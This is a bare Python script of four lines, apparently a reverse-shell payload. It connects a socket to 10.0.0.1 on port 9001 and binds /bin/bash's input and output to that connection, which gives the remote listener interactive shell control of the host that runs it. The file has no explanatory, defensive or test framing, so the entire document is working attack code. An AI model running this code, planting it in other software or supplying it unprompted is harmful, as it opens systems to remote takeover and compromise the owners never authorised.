import socket, subprocess
s = socket.socket()
s.connect(('10.0.0.1', 9001))
subprocess.Popen(['/bin/bash'], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())
